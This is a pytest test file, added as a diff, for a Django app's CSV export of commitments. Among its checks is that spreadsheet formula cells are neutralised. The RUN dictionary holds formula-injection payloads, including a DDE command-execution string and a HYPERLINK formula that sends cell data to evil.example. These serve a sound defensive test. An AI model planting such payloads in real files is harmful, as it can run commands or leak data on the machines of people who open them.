@@ -1,0 +1,357 @@
+"""The CSV: every column in its promised place, nothing that a spreadsheet would run, and exactly the list's rows."""
+
+import csv
+import io
+import re
+from datetime import UTC, datetime
+from decimal import Decimal
+
+import pytest
+from django.db import connection
+from django.http import StreamingHttpResponse
+from django.test.utils import CaptureQueriesContext
+
+from commitments.filters import known_names
+from commitments.models import LedgerHead
+from commitments.reports import rows as exported
+from tests import factories
+from tests.test_pages import rows
+from tests.test_queries import crowd
+
+pytestmark = pytest.mark.django_db
+CSV = "/commitments.csv"
+PROMISED = (
+    "reference, title, release, area, kind, force, level, owners, owner_inferred, partners, sides, quote, deadline, "
+    "deadline_basis, deadline_last_day, original_deadline, slip_days, days_late, status, stop_reason, status_on, "
+    "schedule, evidence, freshness, achieved, target, unit, last_entry_on, note, evidence_urls, url"
+)
+
+
+@pytest.fixture(autouse=True)
+def the_day_is_fixed(time_machine):
+    time_machine.move_to(datetime(2026, 11, 22, 10, tzinfo=UTC))
+
+
+def body(client, address=CSV):
+    answer = client.get(address)
+    assert answer.status_code == 200, answer.content
+    return b"".join(answer)
+
+
+def read(client, address=CSV):
+    """The rows, as a program reads them: column to cell."""
+    return list(csv.DictReader(io.StringIO(body(client, address).decode("utf-8-sig"), newline=""), strict=True))
+
+
+def row(client):
+    [only] = read(client)
+    return only
+
+
+TINY = (
+    "\ufeffreference,title,release,area,kind,force,level,owners,owner_inferred,partners,sides,quote,deadline,"
+    "deadline_basis,deadline_last_day,original_deadline,slip_days,days_late,status,stop_reason,status_on,"
+    "schedule,evidence,freshness,achieved,target,unit,last_entry_on,note,evidence_urls,url\r\n"
+    "AA-01,Hold a week,first,culture,action,promise,primary,Office of Arts; 上海市,false,Joint Council,"
+    'hong_kong; shanghai,"will hold a week, in spring",2020-H1,stated,2020-06-30,2019,182,1219,completed,,'
+    "2023-11,met_late,independent,settled,12.5,40,employees,2023-11-30,Opened.,"
+    "https://example.org/a; https://example.org/b,http://testserver/commitments/AA-01/\r\n"
+    "AA-02,Train staff,first,,target,estimate,aim,,true,Office of Arts,,is estimated,2021,event,2021-12-31,2021,0,,"
+    "no_report,,,unreported,none,ageing,,1000,people,2026-01-31,,,http://testserver/commitments/AA-02/\r\n"
+    "AA-03,Meet again,first,culture,continuing,statement,umbrella,Joint Council,false,,both,meet again,,,,,,,"
+    "stopped,cancelled,2019,ended,party,settled,,,,2019-12-31,Called off.,https://example.org/report,"
+    "http://testserver/commitments/AA-03/\r\n"
+)
+
+
+def tiny_world():
+    """Three commitments between which every column has something and nothing."""
+    release, area = factories.ReleaseFactory(slug="first"), factories.AreaFactory(slug="culture")
+    arts = factories.OrganisationFactory(name="Office of Arts", side="hong_kong")
+    city, joint = (
+        factories.OrganisationFactory(name=n, side=s) for n, s in (("上海市", "shanghai"), ("Joint Council", "both"))
+    )
+    first = factories.published(
+        reference="AA-01", title="Hold a week", release=release, area=area, owners=[city, arts], partners=[joint],
+        quote="will hold a week, in spring", deadline="2019", target=Decimal("40.00"), unit="employees",
+    )  # fmt: skip
+    slip = {"deadline": "2020-H1", "deadline_reason": "More time."}
+    factories.record("report", first, date="2019-10", status="in_progress", **slip)
+    urls = [{"url": "https://example.org/a"}, {"url": "https://example.org/b", "source": "independent"}]
+    evidence = [factories.evidence(**url) for url in urls]
+    said = {"achieved": "12.50", "note": "Opened.", "evidence": evidence}
+    factories.record("report", first, date="2023-11", status="completed", **said)
+    second = factories.published(
+        reference="AA-02", title="Train staff", release=release, area=None, owners=[], partners=[arts], kind="target",
+        force="estimate", level="aim", owner_inferred=True, owner_note="Not named.", quote="is estimated",
+        deadline="2021", deadline_basis="event", target=Decimal(1000), unit="people",
+    )  # fmt: skip
+    factories.record("context", second, date="2026-01", note="Bears on it.")
+    third = factories.published(
+        reference="AA-03", title="Meet again", release=release, area=area, owners=[joint], kind="continuing",
+        force="statement", level="umbrella", quote="meet again",
+    )  # fmt: skip
+    factories.record("report", third, status="stopped", stop_reason="cancelled", note="Called off.")
+
+
+def test_the_columns_stand_in_the_promised_order(client):
+    assert body(client).decode("utf-8-sig") == PROMISED.replace(", ", ",") + "\r\n"
+
+
+def test_the_whole_file_of_a_tiny_world(client):
+    tiny_world()
+    assert body(client).decode() == TINY
+
+
+def test_the_file_starts_with_one_byte_order_mark_and_has_no_other(client):
+    crowd(range(1, 4), parties_as_stated="everyone")
+    assert body(client).startswith(b"\xef\xbb\xbfreference,")
+    assert body(client).count(b"\xef\xbb\xbf") == 1
+
+
+def test_every_line_ends_with_carriage_return_and_line_feed(client):
+    tiny_world()
+    lines = body(client).split(b"\r\n")
+    assert len(lines) == 5
+    assert lines[-1] == b""
+    assert not any(b"\n" in line or b"\r" in line for line in lines)
+
+
+# A spreadsheet runs a cell that starts with one of these; an apostrophe before it stops that.
+RUN = {
+    "equals": "=1+1",
+    "plus": "+1+1",
+    "minus": "-1+1",
+    "at": "@SUM(A1)",
+    "tab": "\t=1+1",
+    "carriage return": "\r=1+1",
+    "line feed": "\n=1+1",
+    "full-width equals": "＝1+1",
+    "full-width plus": "＋1+1",
+    "full-width minus": "－1+1",
+    "full-width at": "＠SUM(A1)",
+    "call": "=cmd|' /C calc'!A0",
+    "link": '=HYPERLINK("https://evil.example?"&A1,"click")',
+    "quoted": '="a","b"',
+    "of two lines": "=1\r\n=2",
+}
+LEFT_ALONE = {
+    "quotes": 'the "big" one',
+    "commas": "one, two, three",
+    "new lines": "one\ntwo\r\nthree\rfour",
+    "sign within": "a=b+c-d@e",
+    "apostrophe": "'s Gravenhage",
+    "Chinese": "滬港合作會議，第四次",
+    "right to left": "\u202etxt.exe\u202c \u200fשלום\u200e",
+    "zero width": "a\u200bb\ufeffc",
+    "emoji": "🚢 of 👩‍👩‍👧",
+    "semicolons": "a; b;c",
+    "backslashes": "\\n \\",
+    "spaces": "  held apart  ",
+    "digits": "0012",
+}
+
+
+@pytest.mark.parametrize("column", ["title", "quote", "unit"])
+@pytest.mark.parametrize("text", [*RUN.values(), *LEFT_ALONE.values()], ids=[*RUN, *LEFT_ALONE])
+def test_a_cell_of_words_comes_back_as_written_and_never_runs(client, column, text):
+    factories.published(**{column: text})
+    assert row(client)[column] == ("'" if text in RUN.values() else "") + text
+
+
+@pytest.mark.parametrize("text", [*RUN.values(), *LEFT_ALONE.values()], ids=[*RUN, *LEFT_ALONE])
+def test_a_note_comes_back_as_written_and_never_runs(client, text):
+    factories.record("report", factories.published(), note=text)
+    assert row(client)["note"] == ("'" if text in RUN.values() else "") + text
+
+
+@pytest.mark.parametrize("text", [*RUN.values(), *LEFT_ALONE.values()], ids=[*RUN, *LEFT_ALONE])
+def test_the_names_of_owners_and_partners_come_back_as_written_and_never_run(client, text):
+    one = factories.OrganisationFactory(name=text)
+    factories.published(owners=[one], partners=[one])
+    expected = ("'" if text in RUN.values() else "") + text
+    assert (row(client)["owners"], row(client)["partners"]) == (expected, expected)
+
+
+@pytest.mark.parametrize("start", ["", "="])
+def test_a_note_longer_than_a_spreadsheet_s_cell_is_kept_whole(client, start):
+    note = start + "long, " * 5461 + "ab"
+    factories.record("report", factories.published(), note=note[: 32_768 + len(start)])
+    found = row(client)["note"]
+    assert found == ("'" if start else "") + note
+    assert len(note) == 32_768 + len(start)
+
+
+def test_a_negative_slip_is_a_number_and_stays_one(client):
+    one = factories.published(deadline="2020-01-06")
+    slip = {"deadline": "2020-01-01", "deadline_reason": "Good weather."}
+    factories.record("report", one, **slip)
+    assert row(client)["slip_days"] == "-5"
+
+
+def test_numbers_and_dates_have_no_apostrophe(client):
+    tiny_world()
+    plain = (
+        "slip_days",
+        "days_late",
+        "achieved",
+        "target",
+        "deadline",
+        "deadline_last_day",
+        "status_on",
+        "last_entry_on",
+    )
+    assert all(re.fullmatch(r"[0-9H.-]*", found[name]) for found in read(client) for name in plain)
+
+
+@pytest.mark.parametrize(
+    ("target", "written"), [("40", "40"), ("40.50", "40.5"), ("100000", "100000"), ("0.05", "0.05")]
+)
+def test_a_number_has_no_zeros_behind_it_and_no_exponent(client, target, written):
+    factories.published(target=Decimal(target), unit="people")
+    assert row(client)["target"] == written
+
+
+def test_what_is_missing_is_an_empty_cell(client):
+    factories.published(area=None, owners=[], partners=[], parties_as_stated="everyone")
+    assert {name for name, cell in row(client).items() if cell == ""} == {
+        "area", "owners", "partners", "sides", "deadline", "deadline_basis", "deadline_last_day", "original_deadline",
+        "slip_days", "days_late", "stop_reason", "status_on", "achieved", "target", "unit", "last_entry_on", "note",
+        "evidence_urls",
+    }  # fmt: skip
+
+
+def test_the_address_is_a_whole_one(client):
+    one = factories.published(reference="TT-01")
+    assert row(client)["url"] == f"http://testserver{one.get_absolute_url()}"
+
+
+QUERIES = [
+    "",
+    "status=completed",
+    "status=no_report&level=primary",
+    "schedule=unreported&schedule=met_late",
+    "evidence=party&sort=-title",
+    "freshness=stale&sort=last_entry",
+    "area=culture&sort=-deadline",
+    "owner=hksarg&owner=wkcda&sort=status",
+    "partner=psa",
+    "side=shanghai&sort=-schedule",
+    "kind=agreement&kind=target&sort=-last_entry",
+    "q=Shanghai+week",
+    "q=nowhere",
+    "deadline_from=2019&deadline_to=2020",
+    "release=4th-plenary-2018&sort=title",
+    "as_of=2018-08-23",
+    "as_of=2019-12-31&status=in_progress&sort=-reference",
+    "as_of=2021-08-30&schedule=overdue&schedule=unreported",
+]
+
+
+@pytest.mark.parametrize("query", QUERIES)
+def test_the_file_has_the_rows_of_all_pages_of_the_list_in_their_order(release, client, query):
+    listed, number, last = [], 0, 1
+    while number < last:
+        number += 1
+        shown = client.get(f"/commitments/?{query}&per_page=7&page={number}").context
+        listed += [one.record.reference for one in shown["table"].paginated_rows]
+        last = shown["table"].paginator.num_pages
+    assert [found["reference"] for found in read(client, f"{CSV}?{query}")] == listed
+
+
+@pytest.mark.parametrize("query", QUERIES)
+def test_the_count_of_rows_is_told_before_they_come(release, client, query):
+    answer = client.get(f"{CSV}?{query}")
+    assert int(answer.headers["X-Row-Count"]) == b"".join(answer).count(b"\r\n") - 1
+
+
+def test_no_page_of_the_list_narrows_the_file(release, client):
+    assert len(read(client, f"{CSV}?page=2&per_page=5")) == 57
+
+
+def test_the_list_links_to_the_file_that_it_shows(release, client):
+    page = client.get("/commitments/?area=culture&q=week&sort=-title")
+    address = re.search(r'href="(/commitments\.csv\?[^"]+)"', page.text)[1].replace("&amp;", "&")
+    assert [found["reference"] for found in read(client, address)] == rows(page)
+
+
+@pytest.mark.parametrize(("query", "day"), [("", "2026-11-22"), ("?as_of=2021-08-30", "2021-08-30")])
+def test_the_name_of_the_file_carries_the_day(release, client, query, day):
+    answer = client.get(CSV + query)
+    b"".join(answer)
+    assert answer.headers["Content-Disposition"] == f'attachment; filename="commitments-{day}.csv"'
+    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
+
+
+def test_the_head_of_the_ledger_is_told(release, client):
+    answer = client.get(CSV)
+    b"".join(answer)
+    assert answer.headers["X-Ledger-Head"] == LedgerHead.objects.get().digest
+
+
+def test_a_past_day_is_written_as_it_stood(client):
+    tiny_world()
+    [first, *_others] = read(client, f"{CSV}?as_of=2020-07-02")
+    then = {
+        "status": "in_progress",
+        "schedule": "overdue",
+        "days_late": "2",
+        "deadline": "2020-H1",
+        "note": first["note"],
+    }
+    assert first.items() >= then.items()
+    assert read(client, f"{CSV}?as_of=2019-10-30")[0]["deadline"] == "2019"
+    assert read(client, f"{CSV}?as_of=2018-08-23") == []
+
+
+def test_the_file_is_streamed(release, client):
+    answer = client.get(CSV)
+    assert isinstance(answer, StreamingHttpResponse)
+    b"".join(answer)
+
+
+def test_the_first_rows_are_sent_before_the_next_ones_are_asked_for(db, client):
+    """1,200 commitments are three batches; what a batch needs is asked for when it is its turn."""
+    crowd(range(1, 1201), owners=[factories.OrganisationFactory()])
+    answer = client.get(CSV)
+    pieces, asked = iter(answer.streaming_content), []
+    for _piece in range(4):
+        with CaptureQueriesContext(connection) as captured:
+            assert next(pieces)
+        asked.append(sum("commitments_ownership" in query["sql"] for query in captured))
+    assert asked == [0, 1, 1, 1]
+    assert list(pieces) == []
+    assert exported.BATCH == 500
+
+
+def test_the_file_takes_no_more_queries_for_four_hundred_rows_than_for_ten(db, client):
+    def asked():
+        with CaptureQueriesContext(connection) as captured:
+            body(client)
+        return len(captured)
+
+    crowd(range(1, 11), owners=[factories.OrganisationFactory()])
+    of_ten = asked()
+    crowd(range(11, 401), owners=factories.OrganisationFactory.create_batch(3))
+    assert asked() == of_ten <= 10
+
+
+def test_an_unknown_name_is_refused_with_the_names_that_are_known(release, client):
+    answer = client.get(f"{CSV}?state=completed&status=completed")
+    assert answer.status_code == 400
+    assert answer.text == f"“state” is not a name known here. The names are: {', '.join(known_names())}.\n"
+
+
+def test_the_known_names_are_those_that_are_promised():
+    promised = (
+        "q, status, schedule, evidence, freshness, area, owner, partner, side, kind, level, release, deadline_from, "
+        "deadline_to, as_of, sort, page, per_page"
+    )
+    assert set(known_names()) == set(promised.split(", "))
+
+
+def test_every_problem_of_a_question_is_told_at_once(release, client):
+    answer = client.get(f"{CSV}?state=x&status=finished&as_of=soon")
+    assert answer.status_code == 400
+    assert [line.partition(" ")[0] for line in answer.text.splitlines()] == ["“state”", "as_of:", "status:"]
+    assert "“finished” is not one of the values allowed here: no_report" in answer.text
